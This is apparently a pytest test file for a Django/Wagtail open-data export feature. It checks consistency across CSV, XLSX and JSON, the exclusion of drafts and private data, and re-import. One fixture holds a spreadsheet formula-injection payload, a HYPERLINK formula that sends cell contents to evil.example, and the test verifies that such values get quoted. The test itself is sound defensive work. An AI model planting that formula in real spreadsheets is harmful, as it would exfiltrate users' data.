"""Open data: approved rows only, the same rows in CSV, XLSX and JSON, licence and dictionary."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from django.test import Client

from wagtail.models import PageViewRestriction

from plans.models import OpenDataPage
from tests.scenarios.monitoring import Monitoring, make_assessment

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("shared_scenarios")]

FORMATS = ("csv", "xlsx", "json")
TABLES = ("gosterge-degerleri", "eylem-durumlari")


def rows_of(response, fmt: str) -> list[dict[str, str]]:
    """The data rows of a download as {column: text}."""
    if fmt == "csv":
        text = response.content.decode("utf-8")
        assert text.startswith("\ufeff")
        return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    if fmt == "xlsx":
        workbook = load_workbook(io.BytesIO(response.content), read_only=True)
        sheet = workbook.worksheets[0]
        header, *body = [list(row) for row in sheet.iter_rows(values_only=True)]
        return [
            {
                column: "" if cell is None else str(cell)
                for column, cell in zip(header, row, strict=True)
            }
            for row in body
        ]
    document = json.loads(response.content)
    assert document["licence"] == "CC BY 4.0"
    return [
        {
            column: ("true" if cell is True else "false" if cell is False else str(cell))
            for column, cell in row.items()
        }
        for row in document["rows"]
    ]


@pytest.mark.parametrize("table", TABLES)
def test_every_format_has_the_same_rows(
    client: Client, open_data: OpenDataPage, table: str
) -> None:
    downloads = {fmt: rows_of(client.get(f"/tr/acik-veri/{table}/{fmt}/"), fmt) for fmt in FORMATS}

    assert len(downloads["csv"]) == 3
    assert downloads["csv"] == downloads["xlsx"] == downloads["json"]


def test_indicator_values_are_the_approved_ones_in_exchange_codes(
    client: Client, open_data: OpenDataPage, monitoring: Monitoring
) -> None:
    rows = rows_of(client.get("/tr/acik-veri/gosterge-degerleri/csv/"), "csv")

    women = next(row for row in rows if row["kirilim"] == "women")
    assert women["belediye"] == "kadikoy"
    assert women["plan"] == monitoring.plan.slug
    assert women["donem"] == str(monitoring.periods[0].pk)
    assert women["gosterge"] == monitoring.indicator.code
    assert women["tarih"] == "2025-06-30"
    assert women["deger"] == "31.5"
    assert women["lisans"] == "CC BY 4.0"


def test_drafts_and_private_assessments_never_reach_a_file(
    client: Client, open_data: OpenDataPage, monitoring: Monitoring
) -> None:
    draft_period = monitoring.add_period(2)
    make_assessment(
        monitoring.plan,
        draft_period,
        rows=[(monitoring.actions[0], "cancelled", 0, "TASLAK-YORUM")],
        values=[(monitoring.indicator, date(2026, 6, 30), "total", "987654")],
        publish=False,
    )
    private_period = monitoring.add_period(3)
    private = make_assessment(
        monitoring.plan,
        private_period,
        rows=[(monitoring.actions[1], "cancelled", 0, "GIZLI-YORUM")],
        values=[(monitoring.indicator, date(2027, 6, 30), "total", "123123")],
    )
    PageViewRestriction.objects.create(page=private, restriction_type="login")

    for table in TABLES:
        for fmt in FORMATS:
            for url in (
                f"/tr/acik-veri/{table}/{fmt}/",
                f"/tr/acik-veri/belediye/kadikoy/{table}/{fmt}/",
                f"/en/open-data/municipality/kadikoy/{table}/{fmt}/",
            ):
                body = client.get(url).content
                if fmt == "xlsx":
                    body = json.dumps(rows_of(client.get(url), "xlsx")).encode()
                for secret in (b"987654", b"TASLAK-YORUM", b"123123", b"GIZLI-YORUM"):
                    assert secret not in body, (url, secret)


def test_one_municipality_file_holds_only_its_rows(
    client: Client, open_data: OpenDataPage, monitoring: Monitoring
) -> None:
    kadikoy = rows_of(client.get("/tr/acik-veri/belediye/kadikoy/eylem-durumlari/csv/"), "csv")
    nilufer = rows_of(client.get("/tr/acik-veri/belediye/nilufer/eylem-durumlari/csv/"), "csv")

    assert {row["belediye"] for row in kadikoy} == {"kadikoy"}
    assert {row["heyet_yorumu"] for row in kadikoy} >= {"Onaylı yorum: kreş açıldı."}
    assert nilufer == []


def test_unknown_dataset_format_or_municipality_is_404(
    client: Client, open_data: OpenDataPage
) -> None:
    for url in (
        "/tr/acik-veri/bilinmeyen/csv/",
        "/tr/acik-veri/gosterge-degerleri/pdf/",
        "/tr/acik-veri/belediye/yok-boyle/gosterge-degerleri/csv/",
    ):
        assert client.get(url).status_code == 404, url


def test_page_links_files_licence_and_dictionary(client: Client, open_data: OpenDataPage) -> None:
    html = client.get("/tr/acik-veri/?belediye=kadikoy").content.decode()
    dictionary = client.get("/tr/acik-veri/sozluk/").content.decode()
    english = client.get("/en/open-data/dictionary/").content.decode()

    assert 'href="/tr/acik-veri/gosterge-degerleri/xlsx/"' in html
    assert 'href="/tr/acik-veri/belediye/kadikoy/eylem-durumlari/json/"' in html
    assert "CC BY 4.0" in html
    assert "<code>kirilim</code>" in dictionary
    assert "Kırılım: total (toplam)" in dictionary
    assert "Disaggregation: total" in english


def test_xlsx_carries_licence_and_dictionary(client: Client, open_data: OpenDataPage) -> None:
    response = client.get("/tr/acik-veri/eylem-durumlari/xlsx/")
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)

    assert workbook.sheetnames == ["eylem_durumlari", "aciklama"]
    about = {row[0]: row[1] for row in workbook["aciklama"].iter_rows(values_only=True) if row}
    assert about["licence"] == "CC BY 4.0"
    assert about["ornek_veri"].startswith("true")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_open_data_download_re_imports_to_the_same_values(
    client: Client, open_data: OpenDataPage, monitoring: Monitoring, fmt: str
) -> None:
    from plans.importer import import_monitoring_file

    url = f"/tr/acik-veri/belediye/kadikoy/gosterge-degerleri/{fmt}/"
    exported = client.get(url).content
    approved = monitoring.assessments[0]
    before = sorted(
        (value.date, value.disaggregation, value.value) for value in approved.indicator_values.all()
    )

    outcome = import_monitoring_file(
        io.BytesIO(exported), f"export.{fmt}", plan=monitoring.plan, period=monitoring.periods[0]
    )

    assert outcome.ok, [issue.message for issue in outcome.issues]
    draft = outcome.assessment.get_latest_revision_as_object()
    after = sorted(
        (value.date, value.disaggregation, value.value) for value in draft.indicator_values.all()
    )
    assert after == before


#: Evidence and source notes a spreadsheet would run as formulas, and two that it would not.
FORMULA_EVIDENCE = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Kanıt")',
    "+90 216 000 00 00 numaralı hat kuruldu",
    "- kreş açıldı\n- personel alındı",
)
FORMULA_SOURCE_NOTES = {"women": "@TÜİK", "men": "'=zaten tırnakla başlıyor", "total": "-5"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_text_is_quoted_and_re_imports_to_the_stored_text(
    client: Client, open_data: OpenDataPage, monitoring: Monitoring, fmt: str
) -> None:
    from plans.importer import import_monitoring_file

    approved = monitoring.assessments[0]
    evidence_of = dict(zip(monitoring.actions, FORMULA_EVIDENCE, strict=True))
    for row in approved.action_rows.all():
        row.evidence = evidence_of[row.action]
        row.save()
    for value in approved.indicator_values.all():
        value.source_note = FORMULA_SOURCE_NOTES[value.disaggregation]
        value.value = Decimal("-12.5") if value.disaggregation == "total" else value.value
        value.save()
    base = f"/tr/acik-veri/belediye/kadikoy/{{table}}/{fmt}/"
    actions = client.get(base.format(table="eylem-durumlari"))
    values = client.get(base.format(table="gosterge-degerleri"))

    evidence_cells = {row["eylem"]: row["kanit"] for row in rows_of(actions, fmt)}
    assert evidence_cells == {action.code: f"'{text}" for action, text in evidence_of.items()}
    value_rows = {row["kirilim"]: row for row in rows_of(values, fmt)}
    assert value_rows["women"]["kaynak"] == "'@TÜİK"
    assert value_rows["men"]["kaynak"] == "''=zaten tırnakla başlıyor"
    assert value_rows["total"]["kaynak"] == "-5"  # a number to a spreadsheet, left alone
    assert value_rows["total"]["deger"] == "-12.5"

    for download in (actions, values):
        outcome = import_monitoring_file(
            io.BytesIO(download.content),
            f"export.{fmt}",
            plan=monitoring.plan,
            period=monitoring.periods[0],
        )
        assert outcome.ok, [issue.message for issue in outcome.issues]

    draft = approved.get_latest_revision_as_object()
    assert {row.action_id: row.evidence for row in draft.action_rows.all()} == {
        action.pk: text for action, text in evidence_of.items()
    }
    assert {
        value.disaggregation: (value.source_note, value.value)
        for value in draft.indicator_values.all()
    } == {
        "women": ("@TÜİK", Decimal("31.5")),
        "men": ("'=zaten tırnakla başlıyor", Decimal("28.5")),
        "total": ("-5", Decimal("-12.5")),
    }
